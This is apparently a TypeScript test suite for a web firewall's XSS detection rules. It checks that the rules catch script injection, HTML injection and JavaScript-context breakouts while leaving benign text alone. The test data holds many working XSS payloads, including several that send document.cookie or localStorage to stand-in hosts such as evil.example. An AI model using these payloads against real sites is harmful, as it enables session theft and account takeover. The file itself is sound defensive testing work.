import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rules } from './xss.ts';
import { scanHtml, scanJsBreakout, schemeAt, isScriptUrl, splitTagName } from './xss-scan.ts';
import { scanHtmlInjection, scanJsStatement, KNOWN_ELEMENTS } from './html-inject.ts';
import { applyChain } from '../transforms.ts';
import type { PartRule } from '../types.ts';
import type { Location } from '../../core/types.ts';
import { RequestContext } from '../../core/context.ts';
import { validatePolicy } from '../../config/load.ts';
import { PayloadEngine } from '../engine.ts';
import { ruleRegistry } from '../registry.ts';

/**
 * Rule ids of the XSS rules up to `paranoia` that fire on a (parser-decoded) value found at a location of
 * `kind`, run as the engine does (a rule runs only on the location kinds it targets).
 */
function fired(value: string, paranoia = 1, kind: Location['kind'] = 'query'): string[] {
  const out: string[] = [];
  for (const r of rules as readonly PartRule[]) {
    if (r.paranoia > paranoia || !r.targets.includes(kind)) continue;
    if (r.transforms.some((c) => r.match(applyChain(value, c), { loc: { kind, name: 'q' }, value }, undefined as never) !== null)) out.push(r.id);
  }
  return out;
}

test('executable markup is detected', () => {
  const attacks = [
    '<script>alert(1)</script>', '<ScRiPt src=//x.example/a.js>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>',
    '<body onload=alert(1)>', '<iframe src="javascript:alert(1)">', '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">', '<object data="data:text/html;base64,PHNjcmlwdD4=">', '<embed src=//x.example/x.swf>',
    '<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go', '<div style="width:expression(alert(1))">', '<x onxxx=alert(1)>',
    '<details open ontoggle=alert(1)>', '<svg><animate attributeName=href values=javascript:alert(1) />',
    '&lt;img src=x onerror=alert(1)&gt;', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '<img src=x onerror=alert(1)',
    '<iframe srcdoc="<script>alert(1)</script>">', '"><img src=x onerror=prompt(1)>', '<style>@import "//evil.example/x.css";</style>',
    '%3Cscript%3Ealert(1)%3C/script%3E', '<svg>', '</script><script>alert(1)</script>',
  ];
  for (const a of attacks) assert.ok(fired(a).length > 0, `missed: ${a}`);
});

test('script URLs, attribute injection and JS-context breakouts are detected', () => {
  const attacks = [
    'javascript:alert(document.domain)', '  JaVaScRiPt:alert(1)', 'java\nscript:alert(1)', 'data:text/html,<b>x', 'vbscript:msgbox(1)',
    '" onmouseover="alert(1)', "' autofocus onfocus=alert(1) x='", '";alert(1)//', "'-alert(1)-'", '\\";alert(1);//',
    "'}alert(1);{'", '"+confirm`1`+"', '${alert(1)}', '`${eval(atob("YWxlcnQoMSk="))}`', "{{constructor.constructor('alert(1)')()}}",
    "';top['al'+'ert'](1)//", 'x";document.location="//evil.example/?"+document.cookie;//', "alert(1)", 'onmouseover',
    "&#x3C;", '\\u003c',
  ];
  for (const a of attacks) assert.ok(fired(a).length > 0, `missed: ${a}`);
});

test('DTD handler declarations, namespaced SVG, SVG-only elements, string-aware CSS, upper-case handlers', () => {
  for (const a of ['<!ATTLIST a onclick CDATA "go()">', ' onfocus CDATA "f()"', '<svg:g><svg:circle r="9"/></svg:g>', '<feImage href="//x.example/i.svg">', '<foreignObject><p>x</p></foreignObject>', '<b style=\'color:"/*";x:expr/**/ession(go())\'>', '" ONMOUSEOVER=alert(1) x="']) {
    assert.ok(fired(a).length > 0, `missed: ${a}`);
  }
});

/** Rich text and HTML e-mail as JSON APIs carry it (rich-text fields, `html_content` templates). */
const RICH_HTML = [
  '<p>Message</p>', '<b>bold</b> and <i>italic</i>', '<a href="https://example.com/docs">docs</a>', '`<div>` is a block element',
  '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>body{width:600px}</style></head><body><table><tr><td>x</td></tr></table></body></html>',
  '<div class="note" onboarding>', '<o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings>',
  '<!--[if (gte mso 9)|(IE)]><xml><o:x/></xml><![endif]-->', '<!DOCTYPE html><html><body><h2>Hi {{name}}</h2></body></html>',
  '<br>', 'a<b>c', '<img src="https://cdn.example.com/a.png" alt="logo">', '<a href="mailto:a@example.com">mail</a>',
  '<table style="width:100%"><tr><td>x</td></tr></table>', '<ul><li>one</li><li>two</li></ul>',
];

test('benign text and markup do not trigger at paranoia 1', () => {
  const benign = [
    '<your x509 certificate>', 'Use `alert()` sparingly in code reviews', '${org.name}: your verification code is ${code}',
    'a < b and c > d', "O'Brien said \"hello\" to everyone", 'learn javascript: the good parts', 'See https://example.com/a?b=c&d=e#frag',
    'Price: 5 < 10', '**bold** _markdown_ [link](https://example.com)', 'if (a) { b(); }', 'online=true', 'one="two"',
    'The event onclick fires when…', "It's \"quoted\" — fine", 'event.target.?[type eq "UserGroup"].size()>0', '<', '&amp;',
  ];
  for (const b of benign) assert.deepEqual(fired(b), [], `false positive: ${b}`);
  // HTML in a JSON body value (rich text, e-mail templates) is normal: not flagged at PL1 ...
  for (const b of RICH_HTML) {
    for (const kind of ['json', 'multipart', 'xml'] as const) assert.deepEqual(fired(b, 1, kind), [], `false positive in ${kind}: ${b}`);
  }
  // ... while the same markup in a URL parameter is HTML injection (941160), and PL2 flags it in bodies (941161)
  for (const b of RICH_HTML.filter((x) => !x.startsWith('<o:') && !x.startsWith('`') && x !== 'a<b>c')) {
    assert.ok(fired(b, 1, 'query').includes('941160') || fired(b, 1, 'query').includes('941100'), `query: ${b}`);
    assert.ok(fired(b, 2, 'json').includes('941161'), `json PL2: ${b}`);
  }
});

test('941160 HTML injection into URL-borne values: known elements, declarations, comments, PIs', () => {
  const attacks = [
    '<html lang="en">', '<head>', '<body bgcolor=red>', '</body>', '<style type="text/css">', '</style>', '<form>',
    '<form action=/login method=post>', '<input type="hidden" name="csrf" value="x">', '<a href="//evil.example">click</a>',
    '<div style="position:fixed;top:0">', '<h2>Account locked</h2>', '<marquee>', '</textarea>', '<iframe name=x>',
    '<rect width="10" height="10"/>', '<ellipse rx=5 ry=5>', '</feTurbulence>', '<linearGradient id=g>', '<mrow><mi>x</mi></mrow>',
    '<image href="x.png" x=0>', '<table border=1>', '<br/>', '<HR>', '<svg:rect/>', '</xsl:for-each>', '<xml:namespace ns="x">',
    '<?xml version="1.0"?>', '<?php echo 1; ?>', '<? print 1 ?>', '<?= $x ?>', '<!DOCTYPE note [', '<!ENTITY x "y">',
    '<!ELEMENT note (to)>', '<!-- hidden -->', 'x<!--', '<!--[if IE]>', '<![endif]-->', '<![CDATA[ x ]]>',
    '<note xmlns="urn:example:notes">', 'xmlns:xlink="http://www.w3.org/1999/xlink"', '<blockquote\ncite=x>', '<center',
  ];
  for (const a of attacks) {
    assert.ok(fired(a, 1, 'query').includes('941160'), `missed in query: ${a}`);
    for (const kind of ['form', 'cookie', 'header', 'path_segment', 'query_name'] as const) assert.ok(fired(a, 1, kind).includes('941160'), `missed in ${kind}: ${a}`);
  }
  // percent- and entity-encoded once more, full-width brackets
  for (const a of ['%3Cbody%3E', '&lt;form&gt;', '\uff1chead\uff1e']) assert.ok(fired(a).includes('941160'), `missed: ${a}`);
});

test('941160 leaves placeholders, generics, math, e-mail and chat markup alone', () => {
  const benign = [
    '<access_token_value>', '<your x509 certificate>', '<email@example.com>', 'Jane <jane@example.com>', 'List<String>',
    'Map<String, Object>', 'List<Object>', 'Array<Image>', 'Optional<Table>', 'x<y>z', '<3', 'I <3 NY', 'a < b and c > d',
    'a<b', 'if a<b then', '<code>', '?code=<code>&state=<state>', 'SELECT * FROM <table>', '<title>', '<path>', '<data>',
    '<time> minutes', '<text to translate>', '<input>', '<a> and <b>', '<https://example.com>', '<http://x.example/a|link>',
    '<mailto:a@example.com>', '<@U024BE7LH>', '<#C024BE7LR|general>', '<!here>', '<!channel>', '<!subteam^S012|team>',
    '<<EOF', '<-- back', '->', '=> <=', '**bold** and _it_ [x](https://example.com) `code`', '# Heading\n\n> quote',
    'v1.2 <= v < 2.0', '<RETURN>', '<Ctrl>+<C>', '<name>', '<user_id>', '<YYYY-MM-DD>', '<br.com>', 'xmlns', 'the xmlns attribute',
    '/buckets/<bucket>/<object>', 'frame=<frame>', 'press <button>', 'geometry=<polygon>', '<env:Envelope>', '<o:p>',
  ];
  for (const b of benign) assert.deepEqual(fired(b, 1, 'query'), [], `false positive: ${b}`);
  assert.equal(scanHtmlInjection('<access_token_value>'), null);
});

test('KNOWN_ELEMENTS holds standard names only (no placeholder words)', () => {
  for (const e of ['html', 'head', 'body', 'form', 'feimage', 'foreignobject', 'mrow', 'xmp', 'image', 'h6']) assert.ok(KNOWN_ELEMENTS.has(e), e);
  for (const e of ['your', 'access_token_value', 'email', 'string', 'name', 'value', 'token', 'x', 'y', 'file', 'user']) assert.ok(!KNOWN_ELEMENTS.has(e), e);
});

test('941371 JS statements in URL-borne values, not in JSON bodies', () => {
  const attacks = [
    'navigator.sendBeacon("//x.example", document.cookie)', 'navigator.vibrate(200)', 'document.write("x")',
    'window.location.href = "//evil.example"', 'location.replace("//evil.example")', 'localStorage.setItem("k", 1)',
    'top.document.body.innerHTML="x"', '$("#login").submit()', "$('a.more').on('click', go)", 'jQuery(document).ready(go)', 'jQuery("#x")',
    '$(function(){ go() })', '$.getScript("//x.example/a.js")', 'function go(){', 'function (a, b) { return a }',
    'x.on("y", function() {', 'history.pushState({}, "", "/x")',
  ];
  for (const a of attacks) {
    assert.ok(fired(a, 1, 'query').includes('941371'), `missed: ${a}`);
    assert.ok(!fired(a, 1, 'json').includes('941371'), `JSON at PL1: ${a}`);
  }
  const benign = [
    'document.pdf', 'my-document.docx (v2)', 'window cleaning (glass)', 'Window.open? maybe', 'Document.create(x)', 'location: Paris (FR)',
    'history.md', 'the function of a key (see docs)', 'functional(x) { }', 'functions() {', 'price $(5.00)', 'US$ (approx.)',
    '$filter=name eq (x)', 'self.assessment(2024)', 'window.title', 'location.city == "Paris"', 'navigator.onLine', 'a = b.c(d)',
    'document.version=2 ', 'docs: window.x', 'my.document.write(1)',
  ];
  for (const b of benign) assert.deepEqual(fired(b, 1, 'query'), [], `false positive: ${b}`);
});

test('paranoia 2 adds risky elements and bare sink calls', () => {
  assert.deepEqual(fired('<form method=post>', 1, 'json'), []);
  assert.ok(fired('<form method=post>', 2, 'json').includes('941320'));
  assert.ok(fired('x = eval(y)', 2).includes('941390'));
});

test('scheme reading tolerates controls and entities, bounded', () => {
  assert.equal(isScriptUrl(schemeAt('\u0001 j\ta\nv\rascript:x', 0)), 'javascript:');
  assert.equal(isScriptUrl(schemeAt('feed:javascript:alert(1)', 0)), 'javascript:');
  assert.equal(isScriptUrl(schemeAt('https://x', 0)), null);
});

test('linear time on 64 KiB pathological input', () => {
  const unit = (u: string) => u.repeat(Math.ceil(65536 / u.length)).slice(0, 65536);
  const inputs = [
    '<', '<a ', '<a b="', "'", '${', '{{', 'on', 'on=', '"on', '&#', 'javascript:', '<svg ', '";', '<style>',
    // HTML-injection, JS-statement, entity-split and bracket-separator paths
    '<code ', '<code a', '</div', '<!', '<!-', '<?', '<x xmlns', '<x x', 'xmlns:a=', 'xmlns:', '<img[a]', '<img[a', '<a[',
    '<scr&#x9;', '<s&#', '<i\t', 'document.', 'window.a', '.a', '$(', '$("', '$.a', 'jQuery(', 'function(', 'function f(a,',
    'function', 'List<Object', '<b x="', '<x </', '<x <', 'window.', 'top.document.', '$("$(\'', '<code x', '<x x x',
    // JS-run look-ahead after breakout quotes and `${`
    "'+a[", "';x.", "'+", "'\n", '```', "'; confirm (", '${document.', '${a+', "';/*", "'+(", '"+top[', "'+document['",
  ].map(unit);
  for (const s of inputs) {
    const t0 = performance.now();
    scanHtml(s);
    scanJsBreakout(s);
    scanHtmlInjection(s);
    scanJsStatement(s);
    fired(s, 4, 'query');
    fired(s, 4, 'json');
    const ms = performance.now() - t0;
    assert.ok(ms < 2000, `${JSON.stringify(s.slice(0, 8))}: ${ms} ms`);
  }
});

test('entity-split tag names, bracketed separator slots and `<` attribute names (every location)', () => {
  const attacks = [
    '<scr&#x9;ipt>alert(1)</scr&#x9;ipt>', '<scr&#x9ipt>go()</scr&#x9ipt>', '<ifr&#10;ame src=//x.example>', '<s&Tab;vg onload=go()>',
    '<scr\nipt>go()</scr\nipt>', '<img[x]src[y]=1[z]onerror=[w]"go()">', '<svg[/]onload[ ]=go()>', '<x </onfocus=go() autofocus>',
  ];
  for (const a of attacks) {
    for (const kind of ['query', 'json'] as const) assert.ok(fired(a, 1, kind).includes('941100'), `missed in ${kind}: ${a}`);
  }
  assert.equal(splitTagName('scr&#x9;ipt>', 0), 'script');
  assert.equal(splitTagName('script>', 0), null); // not split
  assert.equal(splitTagName('b&#9;x>', 0), null); // not an active element
  for (const b of ['<b&amp;c>', 'a [b] <c [d]>', 'Tom &amp; <Jerry>', '<p[1]>x']) assert.deepEqual(fired(b, 1, 'json'), [], `false positive: ${b}`);
});

test('generalises to vectors written for this test (mXSS, entity-split schemes, SMIL, data: SVG)', () => {
  const more = ["<svg><set attributeName=onload to=alert(1)>", "<a href=javas&#99;ript:alert(1)>x", "<img src=1 oNeRrOr=alert(1)>", "<iframe/src=data:text/html,<svg onload=alert(1)>>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "javascript://%0aalert(1)", "\"><svg onload=alert(1)//", "'-confirm(1)-'", "</title><script>alert(1)</script>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<a href=\"&#106;avascript:alert(1)\">", "<object data=javascript:alert(1)>", "{{$on.constructor('alert(1)')()}}", "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<details/open/ontoggle=confirm()>", "<marquee onstart=alert(1)>", "<body/onpageshow=alert(1)>", "\";alert(String.fromCharCode(88,83,83))//", "<a href='javascript&colon;alert(1)'>", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>", "<img src=\"x\" onerror\t=\"alert(1)\">", "jav&#x0A;ascript:alert(1)", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", "<script/src=//x.example>", "'`\"><\\x3Cscript>javascript:alert(1)</script>", "<sCrIpT>alert(1)</ScRiPt>", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "${alert`1`}", "<style>*{background:url(javascript:alert(1))}</style>"];
  for (const a of more) assert.ok(fired(a).length > 0, `missed: ${a}`);
});

test('API and prose text with markup-like characters stays clean', () => {
  const text = ["Terms & Conditions (updated 2024); see section 3(a)", "Q: How do I select all? A: press Ctrl+A", "Error: can't connect to host 'db-1' (timeout)", "Run `SELECT * FROM users` to check", "if (x > 0 && y < 10) { return; }", "O'Reilly & Sons; 'Best-sellers' -- 2024 edition", "Please don't drop the table; it's fragile", "<3 you", "x => y", "<<EOF", "I'd like 2 or 3 more", "Order by phone: 555-0100", "group by region (EMEA)", "He said: 'union is strength'", "rock'n'roll; select your seat", "user@example.com; admin@example.com", "SELECT-2000 model", "(555) 010-0199", "100 - 20 = 80", "It's 50% off -- today only!", "x-www-form-urlencoded", "Price (USD): 1,299.00", "Dear 'Customer', your order #123 shipped", "on the 'Desktop' or 'Mobile' app", "Use onClick handler in React", "alert: disk almost full (95%)", "confirm your email", "The javascript: protocol is blocked", "See <https://example.com>", "{{user.first_name}}, welcome!", "Hello ${name}", "`code` and ```block```", "1' 2\" tall", "Sort: name asc; limit 10", "where=city eq 'Paris' and active eq true", "filter=status in ('a','b')", "q=title:\"hello world\" OR tags:news", "--verbose --output=json", "#hashtag #another", "/* not a comment */ really", "100%; drop", "data:image/png;base64,iVBORw0KGgo=", "Hi! :-) ;-) <:o)", "a = b; c = d;", "Tom & Jerry's \"best\" episodes (1940-1958)"];
  for (const t of text) assert.deepEqual(fired(t), [], `false positive: ${t}`);
});

test('941370 JS-context breakouts: any sink or secret read in the statements after the breakout quote', () => {
  const attacks = [
    "';new Function('alert(1)')()//", "'+document.cookie+'", "';document['cookie']//", "'+localStorage.token+'",
    "';x=document.cookie;fetch('//evil.example/'+x)//", "';alert?.(1)//", "'in alert(1)in'", "'instanceof alert(1)instanceof'",
    "'-(()=>alert(1))()-'", "'-[alert][0](1)-'", "';new Image().src='//evil.example/?'+document.cookie//",
    "'\nalert(1)//", "'\u2028alert(1)//", "';/**/alert(1)/**/;'", '"}];alert(1);//', "';if(1)alert(1)//",
    "';new XMLHttpRequest().open('GET','//evil.example/'+document.cookie)//", "\";top.location='//evil.example'//",
    "'+JSON.stringify(localStorage)+'", "\\';with(document)write(cookie)//", "'};window?.eval(name);{'",
    '${document.cookie}', "${x=document.cookie,fetch('//evil.example/'+x)}", "${new Image().src='//e.example/'+document.domain}",
  ];
  for (const a of attacks) {
    for (const kind of ['query', 'json'] as const) assert.ok(fired(a, 1, kind).includes('941370'), `missed in ${kind}: ${a}`);
  }
});

test('941370 leaves prose quotes and code snippets alone', () => {
  const benign = [
    "it's", "l'été", 'O\'Brien\'s "best" deal', "C'est l'heure d'aller à l'école; n'oublie pas", "Dell'Orto's 'racing' carb - new in box",
    'Ich hab\'s "gemacht" - (fertig)', "'-' separates product codes: AB'-'12", "SKU 'A-100'-'B-200'", "It's 5'11\" tall; weighs 180",
    "Press 'Enter'; then open the 'Settings' (gear icon)", "'Top 10' - best (of 2024); open(ed) late", "it's 'fine'; print (twice) please",
    "'in stock' - ships in 2 days", "The 'document.cookie' property holds cookies", "Use 'localStorage' for persistence",
    "x' = 'y'; setTimeout (30s)", "Mc'Donald's; O'Neil's 'pub' - open (daily)", '«Bonjour» ; „Hallo“ – \'ciao\'',
    "'; DROP TABLE", 'Typography: ‘single’ and “double” quotes; don’t', "Total: ${price * qty}; tax ${tax}", 'Use ${location} as the city',
    '${window.location.href} is the current URL', 'Hi ${name}; confirm (your email)',
    // code snippets (JSON text fields, Markdown)
    "```js\nconst msg = `Hello ${name}`;\nconsole.log(msg);\n```", 'const value = `; ${document.cookie}`;',
    "function getCookie(name) {\n  const value = `; ${document.cookie}`;\n  return value.split(`; ${name}=`).pop();\n}",
    'document.cookie = "name=" + value + "; path=/";', 'let s = "" + document.cookie;', "el.innerHTML = '<b>' + document.cookie + '</b>';",
    "x = '' + localStorage.getItem('k')", "$('#btn').on('click', function() { alert('hi'); });", "localStorage.setItem('theme', 'dark'); location.reload();",
    'const url = `/api/${id}`; fetch(url).then(r => r.json());', "if (!confirm('Delete?')) return; fetch('/items/' + id, {method: 'DELETE'})",
    "str.split(', ').map(s => s.trim()).join('; ')", "\"use strict\"; window.onload = init;", "'use strict';\nmodule.exports = function () {};",
  ];
  for (const b of benign) assert.ok(!fired(b, 1, 'json').includes('941370'), `false positive: ${b}`);
});

test('through the engine: markup blocks in the query and form body at PL1, HTML in a JSON body only scores at PL2', () => {
  const req = (target: string, body?: { type: string; text: string }) => {
    const headers: Record<string, string> = { host: 'api.example.test', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0' };
    if (body) headers['content-type'] = body.type;
    const c = new RequestContext({ id: 't', clientIp: '192.0.2.1', clientKey: '192.0.2.1', peerIp: '192.0.2.1', method: body ? 'POST' : 'GET', target, headers });
    if (body) c.body = { bytes: Buffer.from(body.text), truncated: false };
    return c;
  };
  const inspect = (pl: number, c: RequestContext) => {
    const e = new PayloadEngine(validatePolicy({ detection: { paranoiaLevel: pl } }).detection, ruleRegistry());
    const s = [...e.inspectRequest(c)];
    if (c.body) s.push(...e.inspectBody(c));
    return s.filter((x) => x.category === 'xss');
  };
  const score = (sigs: { score: number }[]) => sigs.reduce((a, x) => a + x.score, 0);
  // a fake login form injected through a query parameter: no script, still HTML injection (941160, 5 points)
  const q = inspect(1, req('/search?q=' + encodeURIComponent('"><form action=//evil.example><input name=pw type=password>')));
  assert.ok(q.some((x) => x.ruleId === 'xss.941160'), JSON.stringify(q));
  assert.ok(score(q) >= 5);
  const f = inspect(1, req('/login', { type: 'application/x-www-form-urlencoded', text: 'user=' + encodeURIComponent('</title><h1>Site moved</h1>') }));
  assert.ok(f.some((x) => x.ruleId === 'xss.941160'), JSON.stringify(f));
  const js = inspect(1, req('/p?next=' + encodeURIComponent('navigator.sendBeacon(1)')));
  assert.ok(js.some((x) => x.ruleId === 'xss.941371'), JSON.stringify(js));
  // rich text in JSON: nothing at PL1; PL2 scores it (941161, error = 4 points) without reaching the threshold alone
  const json = { type: 'application/json', text: JSON.stringify({ subject: 'Hi', html_content: '<html><body><p>Hello <b>Ana</b></p></body></html>' }) };
  assert.deepEqual(inspect(1, req('/v3/templates', json)), []);
  const pl2 = inspect(2, req('/v3/templates', json));
  assert.deepEqual(pl2.map((x) => x.ruleId), ['xss.941161']);
  assert.ok(score(pl2) < 5);
  // placeholders in a query string stay clean at PL1
  assert.deepEqual(inspect(1, req('/oauth/token?access_token=<access_token_value>&cert=' + encodeURIComponent('<your x509 certificate>') + '&code=<code>')), []);
});
